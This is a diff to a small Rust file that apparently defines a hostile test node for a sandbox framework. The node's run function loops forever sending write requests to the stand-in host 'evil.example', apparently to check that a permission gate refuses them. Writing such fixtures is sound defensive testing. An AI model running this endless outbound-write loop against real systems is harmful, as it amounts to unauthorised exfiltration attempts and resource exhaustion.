@@ -2,18 +2,15 @@
 //! computation, though most of it is the host's.
 
 use hostile::{Nothing, Request};
-use patchbay_node::{NoInputs, NoOptions, Outcome, Result, node};
+use patchbay_node::{Outcome, Result, node};
 
 node! {
-    id: "endless-refusals",
-    title: "Endless Refusals",
+    /// Asks for ever for what the gate refuses at once.
     resource: "Sandbox",
-    description: "Asks for ever for what the gate refuses at once.",
     effect: Write,
-    idempotent: false,
 }
 
-fn run(_: NoInputs, _: NoOptions) -> Result<Outcome<Nothing>> {
+fn run() -> Result<Outcome<Nothing>> {
     loop {
         Request::write("https://evil.example/").send().ok();
     }
